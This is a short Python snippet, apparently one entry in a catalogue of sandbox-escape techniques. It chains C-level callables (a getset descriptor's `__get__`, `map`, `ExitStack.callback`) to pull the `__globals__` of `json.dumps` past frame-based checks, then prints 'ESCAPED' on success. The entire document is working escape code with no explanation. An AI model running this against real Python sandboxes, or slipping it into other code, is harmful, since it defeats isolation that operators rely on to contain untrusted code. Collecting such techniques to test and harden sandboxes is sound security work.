# technique: the __get__ of a getset descriptor as callback: what it returns is kept
# goal: globals
# source: own analysis: attacker's C callables below a trusted frame
import contextlib
import json
kept = []
slot = type(json.dumps).__dict__['__globals__']
with contextlib.ExitStack() as stack:
    stack.callback(next, map(kept.append, map(slot.__get__, [json.dumps])), None)
if kept[0]['__name__'] == 'json':
    print('ESCAPED globals of json')
